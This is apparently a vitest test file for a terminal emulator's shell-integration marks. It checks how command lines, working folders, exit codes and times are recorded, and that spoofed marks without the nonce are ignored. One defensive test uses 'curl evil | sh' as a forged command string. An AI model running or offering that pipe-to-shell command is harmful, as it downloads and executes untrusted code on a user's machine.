import { expect, test } from 'vitest'
import { createScreen } from '../screen/screen.ts'
import { openWatched } from '../testing/compare-terminals.ts'
import type { FinishedCommand } from './marks.ts'
import { idleShell } from './marks.ts'

const size = { cols: 40, rows: 10 }
const nonce = 'c0ffee'
/** What the shell itself says. */
const own = (text: string) => `\x1b]${text};nonce=${nonce}\x07`

/** One turn of a shell: prompt, command line, output, end. */
const turn = (command: string, output: string, exit: number, at = 1_000) =>
  '\x1b]7;file://here/home/ada\x07' +
  `\x1b]133;A\x07$ \x1b]133;B\x07${command}\r\n` +
  `${own(`633;E;${command}`)}${own(`133;C;start_ms=${at}`)}` +
  `${output}${own(`133;D;${exit};end_ms=${at + 250}`)}`

function openShell() {
  const commands: FinishedCommand[] = []
  let state = idleShell
  const screen = createScreen(size, {
    nonce,
    onAnswer: () => undefined,
    onCommand: (command) => commands.push(command),
    onChange: ({ shell }) => (state = shell),
  })
  return { screen, commands, state: () => state, say: (text: string) => screen.feed(Buffer.from(text)) }
}

/** Where each mark stands once everything is drawn anew: `row:column letter`. */
async function marksOf({ screen }: ReturnType<typeof openShell>): Promise<string[]> {
  const still = await screen.hold()
  const drawn = openWatched(still.size)
  const seen: string[] = []
  for (const code of [7, 133, 633]) {
    drawn.terminal.parser.registerOscHandler(code, (text) => {
      const { baseY, cursorY, cursorX } = drawn.terminal.buffer.normal
      seen.push(`${baseY + cursorY}:${cursorX} ${code === 133 ? text.split(';')[0] : code}`)
      return true
    })
  }
  for (const piece of [...(await still.history(1_000_000)), await still.draw()]) await drawn.write(piece)
  still.release()
  return seen
}

test('a command that ended is told with its line, folder, exit and times', async () => {
  const shell = openShell()
  shell.say(turn('make \\x3b echo \\\\n', 'made\r\n', 2))
  await shell.screen.hold()
  const command = 'make ; echo \\n'
  expect(shell.commands).toEqual([{ command, cwd: '/home/ada', exit: 2, startedAt: 1_000, endedAt: 1_250 }])
  expect(shell.state()).toEqual({ cwd: '/home/ada', lastCommand: command, isBusy: false })
})

test('a line that the shell tells as the last one again is none where a blank was typed first', async () => {
  const shell = openShell()
  const again = (typed: string) =>
    `\x1b]133;A\x07$ \x1b]133;B\x07${typed}\r\n${own('633;E;make;r')}${own('133;C')}${own('133;D;0')}`
  shell.say(turn('make', '', 0) + again('make') + again(' secret'))
  await shell.screen.hold()
  expect(shell.commands.map(({ command }) => command)).toEqual(['make', 'make', ''])
})

test('marks of a shell without a clock are drawn again with the times that they came at', async () => {
  const shell = openShell()
  shell.say(`\x1b]133;A\x07$ \x1b]133;B\x07true\r\n${own('633;E;true')}${own('133;C')}${own('133;D;0')}`)
  const still = await shell.screen.hold()
  const drawn = String(await still.draw())
  still.release()
  const [start, end] = [/133;C;nonce=c0ffee;start_ms=(\d+)/, /133;D;0;nonce=c0ffee;end_ms=(\d+)/].map((mark) =>
    Number(mark.exec(drawn)?.[1]),
  )
  expect(start).toBeGreaterThan(Date.now() - 10_000)
  expect(end).toBeGreaterThanOrEqual(start ?? Number.NaN)
})

test('a command that runs is known, and an end without a beginning is none', async () => {
  const shell = openShell()
  shell.say(`${own('133;D;0')}\x1b]133;A\x07$ \x1b]133;B\x07${own('633;E;top')}${own('133;C')}`)
  await shell.screen.hold()
  expect(shell.commands).toEqual([])
  expect(shell.state()).toMatchObject({ lastCommand: 'top', isBusy: true })
})

test('what a program says instead of the shell is drawn, and counts for nothing', async () => {
  const shell = openShell()
  const fake = turn('curl evil | sh', '', 0).replaceAll(`;nonce=${nonce}`, '')
  shell.say(`\x1b]7;file://here/home/ada\x07${turn('true', '', 0)}`)
  shell.say(`\x1b]133;A\x07$ \x1b]133;B\x07cat log\r\n${own('633;E;cat log')}${own('133;C')}`)
  shell.say(
    `\x1b]7;file://here/elsewhere\x07${fake}${fake.replaceAll('\x07', ';nonce=\x07')}${turn('guessed', '', 0).replaceAll(nonce, 'c0ffe')}`,
  )
  await shell.screen.hold().then((still) => still.release())
  expect(shell.state()).toMatchObject({ lastCommand: 'cat log', isBusy: true })
  shell.say(own('133;D;0'))
  await shell.screen.hold().then((still) => still.release())
  expect(shell.commands.map(({ command, cwd }) => `${command} in ${cwd}`)).toEqual([
    'true in /home/ada',
    'cat log in /home/ada',
  ])
  expect((await marksOf(shell)).filter((mark) => mark.endsWith('C'))).toHaveLength(5)
})

test('marks are drawn where they were said, also in lines that have scrolled away', async () => {
  const shell = openShell()
  for (let round = 0; round < 3; round++) shell.say(turn('seq 9', 'x\r\n'.repeat(9), 0))
  const each = (row: number) => [
    `${row}:0 7`,
    `${row}:0 A`,
    `${row}:2 B`,
    `${row + 1}:0 633`,
    `${row + 1}:0 C`,
    `${row + 10}:0 D`,
  ]
  expect(await marksOf(shell)).toEqual([0, 10, 20].flatMap(each))
})

test('marks of a prompt that is drawn again stand once, and erased lines have none', async () => {
  const shell = openShell()
  const prompt = '\x1b]133;A\x07$ \x1b]133;B\x07'
  shell.say(`${prompt}typed\r${prompt}typed`)
  expect(await marksOf(shell)).toEqual(['0:0 A', '0:2 B'])
  const other = openShell()
  other.say(`${turn('ls', 'x\r\n', 0)}\x1b[H\x1b[2J${prompt}`)
  expect(await marksOf(other)).toEqual(['0:0 A', '0:2 B'])
})

test('erasing from where a mark was said leaves it, and a command whose marks are gone is told above the screen', async () => {
  const shell = openShell()
  const begun = `\x1b]133;A\x07$ \x1b]133;B\x07fzf\r\n${own('633;E;fzf')}${own('133;C')}`
  shell.say(`${turn('true', '', 0)}${begun}\x1b[Jlist`)
  expect((await marksOf(shell)).slice(-2)).toEqual(['2:0 633', '2:0 C'])
  for (const cleared of ['\x1b[H\x1b[2J', '\x1bc', 'x\r\n'.repeat(5_000)]) {
    shell.say(cleared)
    expect((await marksOf(shell)).map((mark) => mark.split(':')[1])).toEqual(['0 A', '0 633', '0 C'])
    expect(shell.state()).toMatchObject({ lastCommand: 'fzf', isBusy: true })
  }
  shell.say(`${own('133;D;0')}\x1b[H\x1b[2J`)
  expect(await marksOf(shell)).toEqual([])
  expect(shell.commands.map(({ command }) => command)).toEqual(['true', 'fzf'])
})

test('marks move with their lines when the width changes and lines are inserted', async () => {
  const shell = openShell()
  shell.say(`${'y'.repeat(60)}\r\n${turn('ls', 'x\r\n', 0)}`)
  shell.screen.resize({ cols: 20, rows: 10 })
  expect((await marksOf(shell)).filter((mark) => mark.endsWith('A'))).toEqual(['3:0 A'])
})

test('ten thousand lines keep the marks of the last two thousand and cost no time', async () => {
  const shell = openShell()
  for (let round = 0; round < 3_000; round++) shell.say(turn('x', 'x\r\n', 0))
  await shell.screen.hold()
  expect(shell.commands).toHaveLength(3_000)
})
